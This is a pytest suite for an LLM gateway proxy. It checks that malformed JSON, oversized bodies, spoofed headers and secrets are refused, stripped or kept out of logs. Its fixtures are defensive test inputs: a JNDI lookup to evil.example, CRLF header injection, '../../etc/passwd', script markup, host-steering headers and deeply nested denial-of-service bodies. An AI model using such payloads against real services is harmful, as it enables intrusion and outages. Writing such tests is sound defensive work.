"""Rows 18-28: what a body or a field may say; bad input is refused by name and never echoed, the rest passes untouched."""

import json
from typing import Any

import pytest
from lab.upstream import FakeUpstream, ScriptedConnection, answers

from faults.process import GateProcess
from faults.talk import Answer, chat, request

MARK = "unmistakable-4711"
"""Stands in bodies that are refused: it must come back nowhere."""

QUICKLY_S = 3.0
"""Refusals of hostile bodies take milliseconds; parsing them in a naive way takes minutes."""


def ask(gate: GateProcess, body: bytes, *lines: str) -> Answer:
    talk = gate.connect()
    talk.ask(body, *lines)
    answer = talk.answer()
    talk.close()
    return answer


def bad_input(answer: Answer, *words: str) -> None:
    """Check that this is a 400 in the dialect, with these words and without the body's content."""
    assert answer.status == 400, answer.body
    assert answer.error["type"] == "invalid_request_error"
    assert answer.headers["x-should-retry"] == "false"
    assert MARK.encode() not in answer.body
    for word in words:
        assert word in answer.error["message"], answer.error


def with_raw(field: str, value: str) -> bytes:
    """Return a chat request with one more field, its value as it is."""
    return chat(MARK)[:-1] + f', "{field}": {value}}}'.encode()


# ---- row 18

NOT_JSON = {
    "invalid UTF-8": chat(MARK).replace(b"unmis", b"\xff\xfe"),
    "an overlong encoding": chat(MARK).replace(b"unmis", b"\xc0\xaf"),
    "a surrogate in UTF-8": chat(MARK).replace(b"unmis", b"\xed\xa0\x80"),
    "a byte order mark": b"\xef\xbb\xbf" + chat(MARK),
    "UTF-16": chat(MARK).decode().encode("utf-16"),
    "UTF-32": chat(MARK).decode().encode("utf-32"),
    "NaN": with_raw("temperature", "NaN"),
    "Infinity": with_raw("temperature", "Infinity"),
    "-Infinity": with_raw("temperature", "-Infinity"),
    "a lone surrogate": chat(MARK).replace(b"unmis", b"\\ud800"),
    "a control character": chat(MARK).replace(b"unmis", b"\x01"),
    "a raw line end in a string": chat(MARK).replace(b"unmis", b"\n"),
    "NUL behind the end": chat(MARK) + b"\x00",
    "a second value": chat(MARK) + chat(MARK),
    "trailing bytes": chat(MARK) + b" x",
    "a trailing comma": chat(MARK)[:-1] + b",}",
    "single quotes": chat(MARK).replace(b'"', b"'"),
    "a comment": b"/* x */" + chat(MARK),
    "nothing": b"",
    "spaces": b"   ",
    "half": chat(MARK)[:-10],
    "a list": b"[" + chat(MARK) + b"]",
    "a string": json.dumps(MARK).encode(),
    "null": b"null",
    "a leading zero": with_raw("seed", "007"),
    "hexadecimal": with_raw("seed", "0x7"),
    "a plus sign": with_raw("seed", "+7"),
    "a bare fraction": with_raw("seed", ".5"),
    "a bad escape": chat(MARK).replace(b"unmis", b"\\x41"),
}


@pytest.mark.parametrize("name", NOT_JSON)
def test_row_18_what_is_not_json_is_refused_without_an_echo(
    gate: GateProcess, upstream: FakeUpstream, name: str
) -> None:
    bad_input(ask(gate, NOT_JSON[name]))
    assert upstream.received == []


def test_row_18_the_offset_of_the_fault_is_told(gate: GateProcess) -> None:
    bad_input(ask(gate, b'{"model": "m", "messages": [}'), "28")


# ---- row 19

HUGE = {
    "depth of lists": with_raw("metadata", "[" * 100_000 + "]" * 100_000),
    "depth of objects": with_raw("metadata", '{"a":' * 100_000 + "1" + "}" * 100_000),
    "depth within messages": b'{"model":"m","messages":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "depth without an end": b'{"model":"m","messages":' + b"[" * 1_000_000,
    "an integer of 5000 digits": with_raw("max_tokens", "9" * 5000),
    "an exponent": with_raw("max_tokens", "1e999"),
    "countless keys": with_raw("logit_bias", json.dumps({str(n): 1 for n in range(100_000)})),
    "countless stops": with_raw("stop", json.dumps(["x"] * 100_000)),
    "countless tools": with_raw("tools", json.dumps([{}] * 100_000)),
    "countless messages": json.dumps({"model": "m", "messages": [{}] * 100_000}).encode(),
}


@pytest.mark.parametrize("name", HUGE)
def test_row_19_depth_digits_and_counts_beyond_reason_are_refused_quickly(
    gate: GateProcess, upstream: FakeUpstream, name: str
) -> None:
    before = gate.cpu_s
    bad_input(ask(gate, HUGE[name]))
    assert gate.cpu_s - before < QUICKLY_S
    assert upstream.received == []


def test_row_19_two_hundred_thousand_unknown_keys_are_read_quickly(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    before = gate.cpu_s
    body = json.dumps({"model": "m", "messages": [{}], **{f"k{n}": n for n in range(200_000)}}).encode()
    assert len(body) < 4 * 1024 * 1024
    assert ask(gate, body).status in {200, 400}
    assert gate.cpu_s - before < QUICKLY_S


# ---- row 20


@pytest.mark.parametrize(
    ("field", "first", "second"),
    [
        ("model", '"a"', '"b"'),
        ("model", '"a"', '"a"'),
        ("stream", "false", "true"),
        ("max_tokens", "1", "100000"),
        ("max_completion_tokens", "1", "100000"),
    ],
)
@pytest.mark.parametrize("spelling", ["plain", "escaped"])
def test_row_20_a_field_that_limits_hang_on_may_stand_once_only(
    gate: GateProcess, upstream: FakeUpstream, field: str, first: str, second: str, spelling: str
) -> None:
    twin = field if spelling == "plain" else f"\\u{ord(field[0]):04x}{field[1:]}"
    body = (
        f'{{"{field}": {first}, "messages": [{{"role": "user", "content": "{MARK}"}}], "{twin}": {second}}}'
    )
    bad_input(ask(gate, body.encode()), field)
    assert upstream.received == []


def test_row_20_the_same_name_deeper_inside_is_no_duplicate(gate: GateProcess) -> None:
    tool = {"type": "function", "function": {"name": "f", "parameters": {"model": 1, "stream": 2}}}
    assert ask(gate, chat('"model": "x", "max_tokens": 5', tools=[tool], stream=False)).status == 200


# ---- row 21


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("n", "1000000000"),
        ("n", "0"),
        ("n", "-1"),
        ("n", '"2"'),
        ("n", "true"),
        ("n", "1.5"),
        ("n", "[]"),
        ("max_tokens", "-1"),
        ("max_tokens", "0"),
        ("max_tokens", "1000000000000"),
        ("max_tokens", '"5"'),
        ("max_tokens", "true"),
        ("max_tokens", "1.5"),
        ("max_tokens", "{}"),
        ("max_completion_tokens", "-5"),
        ("stream", '"true"'),
        ("stream", "1"),
        ("stream", "[]"),
        ("model", "5"),
        ("model", "[]"),
        ("model", "{}"),
        ("stop", json.dumps(["x"] * 5000)),
        ("stop", "{}"),
        ("stop", "5"),
        ("logit_bias", "[]"),
        ("logit_bias", json.dumps({str(n): 1 for n in range(5000)})),
        ("tools", json.dumps([{}] * 2000)),
        ("tools", "{}"),
        ("messages", "[]"),
        ("messages", "{}"),
        ("messages", '"hi"'),
        ("messages", "null"),
    ],
)
def test_row_21_a_number_beyond_its_limit_is_refused_by_name(
    gate: GateProcess, upstream: FakeUpstream, field: str, value: str
) -> None:
    fields = {"model": '"m"', "messages": f'[{{"role": "user", "content": "{MARK}"}}]', field: value}
    body = "{" + ", ".join(f'"{name}": {text}' for name, text in fields.items()) + "}"
    answer = ask(gate, body.encode())
    bad_input(answer, field)
    assert answer.error["param"] == field
    assert upstream.received == []


def test_row_21_best_of_is_bounded_too(gate: GateProcess) -> None:
    talk = gate.connect()
    talk.ask(b'{"model": "m", "prompt": "x", "best_of": 1000000}', path="/v1/completions")
    bad_input(talk.answer(), "best_of")


# ---- row 22


def test_row_22_unknown_fields_and_parts_reach_the_engine_untouched(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    parts = [{"type": "hologram", "hologram": {"url": "x"}}, {"type": "text", "text": "é\u2028😀"}]
    body = json.dumps(
        {
            "model": "m",
            "messages": [{"role": "wizard", "content": parts}],
            "chat_template_kwargs": {"enable_thinking": False},
            "x": [1e400, -0.0, 12345678901234567890][1:],
            "nested": {"a": {"b": [None, True]}},
        },
        ensure_ascii=False,
    ).encode()
    assert ask(gate, body, "X-Custom: kept", "traceparent: 00-1-2-3", "anthropic-beta: b").status == 200
    (received,) = upstream.received
    assert received.body == body
    assert received.header(b"x-custom") == b"kept"
    assert received.header(b"traceparent") == b"00-1-2-3"
    assert received.header(b"anthropic-beta") == b"b"


# ---- rows 23 and 24

STEERING = (
    "X-Forwarded-Host: evil.example",
    "X-Gateway-Destination-Endpoint: 10.0.0.1:80",
    "Forwarded: host=evil.example",
    "X-Original-URL: /metrics",
    "X-Rewrite-URL: /metrics",
    "X-Millgate-Tenant: vip",
    "X-Millgate-Lane: vip",
    "X-Millgate-Priority: 0",
)


def counted(gate: GateProcess, name: str) -> float:
    lines = gate.ask("/metrics")[1].decode().splitlines()
    return float(next(line for line in lines if line.startswith(f"millgate_door_{name}_total ")).split()[1])


def test_row_23_and_24_fields_that_steer_or_spoof_never_reach_the_engine_and_are_counted(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    steering, spoofed = counted(gate, "steering_fields"), counted(gate, "spoofed_fields")
    talk = gate.connect()
    for _ in range(2):  # a head that repeats on its connection is not read again, but counted
        talk.ask(chat(), *STEERING)
        assert talk.answer().status == 200
    assert counted(gate, "steering_fields") - steering == 2 * 5
    assert counted(gate, "spoofed_fields") - spoofed == 2 * 3
    received = upstream.received[-1]
    names = {name for name, _value in received.headers}
    assert not names & {line.partition(":")[0].lower().encode() for line in STEERING}
    assert received.header(b"host") == f"127.0.0.1:{upstream.port}".encode()
    assert [lane["name"] for lane in gate.state()["lanes"]] == [
        "interactive",
        "long_context",
        "throughput",
        "agents",
    ]
    assert len(upstream.received) == 2


def test_row_23_an_address_in_the_body_is_never_called(gate: GateProcess, upstream: FakeUpstream) -> None:
    with FakeUpstream() as decoy:
        for field in ("api_base", "base_url", "api_url", "endpoint", "custom_llm_provider"):
            assert ask(gate, chat(**{field: decoy.url})).status == 200
        assert decoy.connected == 0
    assert len(upstream.received) == 5


def test_row_23_a_second_coding_of_the_body_is_refused(gate: GateProcess, upstream: FakeUpstream) -> None:
    answer = ask(gate, chat(), "Content-Encoding: identity", "Content-Encoding: gzip")
    assert (answer.status, answer.error["code"]) == (415, "unsupported_media_type")
    assert upstream.received == []


def test_row_23_a_name_that_the_engine_may_read_as_a_length_never_reaches_it(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    assert ask(gate, chat(), "Content_Length: 1", "X_Forwarded_Host: evil.example", "X_Own: 1").status == 200
    names = {name for name, _value in upstream.received[0].headers}
    assert not names & {b"content_length", b"x_forwarded_host"}
    assert b"x_own" in names


def test_row_23_fields_of_one_connection_stay_on_it(gate: GateProcess, upstream: FakeUpstream) -> None:
    lines = (
        "Connection: keep-alive, X-Private",
        "Connection: X-Other",
        "X-Private: a",
        "X-Other: b",
        "TE: trailers",
        "Keep-Alive: timeout=5",
        "Proxy-Authorization: Basic eA==",
        "Proxy-Connection: keep-alive",
    )
    assert ask(gate, chat(), *lines).status == 200
    names = {name for name, _value in upstream.received[0].headers}
    assert not names & {
        b"x-private",
        b"x-other",
        b"te",
        b"keep-alive",
        b"proxy-authorization",
        b"proxy-connection",
        b"connection",
        b"trailer",
    }


# ---- rows 25 and 26

NAMES = {
    "long": "x" * 10_000,
    "emoji": "😀" * 50,
    "right to left": "\u202eledom",
    "line end": "a\nb",
    "CR LF": "a\r\nX-Injected: b",
    "quote": 'a"b',
    "brace": "a{b}",
    "path": "../../etc/passwd",
    "NUL": "a\x00b",
    "escape": "\x1b[31mred",
    "lookup": "${jndi:ldap://evil.example/x}",
    "markup": "<script>alert(1)</script>",
    "label": 'm",evil="1',
}


@pytest.mark.parametrize("name", NAMES)
def test_row_25_odd_model_names_are_refused_or_harmless(
    gate: GateProcess, upstream: FakeUpstream, name: str
) -> None:
    answer = ask(gate, chat(model=NAMES[name]))
    assert answer.status in {200, 400}
    if answer.status == 400:
        bad_input(answer, "model")
    metrics = gate.ask("/metrics")[1].decode()
    assert NAMES[name] not in metrics
    assert "evil" not in metrics
    assert all(line.startswith(("#", "millgate_", "process_")) for line in metrics.splitlines() if line)
    json.loads(gate.ask("/api/state")[1])


def test_row_26_thousands_of_models_leave_memory_and_labels_flat(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    talk = gate.connect()
    for begin in range(0, 1500, 100):
        bodies = [chat(model=f"model-{number}") for number in range(begin, begin + 100)]
        talk.send(b"".join(map(request, bodies)))
        assert [talk.answer().status for _ in bodies] == [200] * 100
    assert b"model-" not in gate.ask("/metrics")[1], "a model is no label"
    state = gate.state()
    assert len(state["bytes_per_token"]) <= 600
    assert len(state["mean_output_tokens"]) <= 600


# ---- rows 27 and 28

HOSTILE = (
    "\\r\\nevil: 1",
    "${jndi:ldap://evil.example/x}",
    '"},{"level":"fake',
    "%0d%0aevil",
    "\x1b[31mevil",
)


def test_row_27_hostile_fields_leave_no_raw_line_in_the_log(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    before = len(gate.errors())
    for text in HOSTILE[:-1]:
        ask(gate, chat(model=text), f"User-Agent: {text}", f"X-Request-Id: {text}")
    ask(gate, chat(), "User-Agent: " + HOSTILE[-1])
    written = gate.errors()[before:]
    assert "\x1b" not in written
    assert not any(line.startswith("evil") for line in written.splitlines())


def test_row_27_a_request_id_is_taken_over_only_if_it_is_harmless(
    gate: GateProcess, upstream: FakeUpstream
) -> None:
    assert ask(gate, chat(), "X-Request-Id: client-1").headers["x-request-id"] == "client-1"
    for text in (*HOSTILE[:-1], "x" * 129, 'a"b', "a b", "<b>"):
        answer = ask(gate, chat(), f"X-Request-Id: {text}")
        assert answer.headers["x-request-id"] not in {text, text.strip()}
        assert upstream.received[-1].header(b"x-request-id") == answer.headers["x-request-id"].encode()


SECRET = "sk-secret-0123456789abcdef"


def test_row_28_secrets_and_prompts_appear_nowhere(gate: GateProcess, upstream: FakeUpstream) -> None:
    async def failing(line: ScriptedConnection) -> None:
        await line.send(b"HTTP/1.1 nonsense " + SECRET.encode() + b"\r\n\r\n")

    prompt = "private-prompt-text"
    credentials = (f"Authorization: Bearer {SECRET}", f"x-api-key: {SECRET}", f"Cookie: s={SECRET}")
    said = [ask(gate, chat(prompt), *credentials).body]
    assert upstream.received[0].header(b"authorization") == f"Bearer {SECRET}".encode()
    said += [
        ask(gate, body, *credentials).body for body in (b"{" + prompt.encode(), with_raw("n", f'"{SECRET}"'))
    ]
    upstream.script = failing
    said.append(ask(gate, chat(prompt), *credentials).body)
    talk = gate.connect()
    talk.send(request(chat(prompt), path=f"/v1/unknown?key={SECRET}"))
    said.append(talk.answer().body)
    said += [gate.ask(path)[1] for path in ("/api/state", "/metrics", "/readyz", f"/unknown?key={SECRET}")]
    said.append(gate.errors().encode())
    for text in said:
        assert SECRET.encode() not in text
        assert prompt.encode() not in text


# ---- usage and finish of what passes


@pytest.mark.parametrize(
    "usage",
    [
        None,
        {},
        {"prompt_tokens": -5, "completion_tokens": -1},
        {"prompt_tokens": 10**15, "completion_tokens": 10**15},
        {"prompt_tokens": "5", "completion_tokens": None},
        {"prompt_tokens": 1.5},
        "many",
        [1],
        {"completion_tokens": True},
    ],
    ids=str,
)
@pytest.mark.parametrize("stream", [False, True])
def test_row_51_missing_negative_or_absurd_usage_leaves_the_estimate(
    gate: GateProcess, upstream: FakeUpstream, usage: Any, stream: bool
) -> None:
    async def answer(line: ScriptedConnection) -> None:
        if stream:
            last = {"id": "c", "choices": [], "usage": usage}
            events = [
                answers.event("a"),
                answers.event(finish="stop"),
                b"data: %b\n\n" % json.dumps(last).encode(),
            ]
            await line.send(answers.head(200, answers.EVENT_STREAM) + answers.chunks(*events, answers.DONE))
            await line.send(answers.LAST_CHUNK)
        else:
            await line.send(answers.whole(answers.completion("a", usage=usage)))

    upstream.script = answer
    before = gate.state()["good_output_tokens"]
    model = f"{stream}-{usage}"
    assert ask(gate, chat(model=model, stream=stream)).whole
    assert gate.ended() == {"good": 1}
    state = gate.state()
    assert 0 <= state["good_output_tokens"] - before < 10_000
    assert 1 <= state["bytes_per_token"].get(model, 4) <= 100
    assert 1 <= state["mean_output_tokens"].get(model, 4) <= 10_000
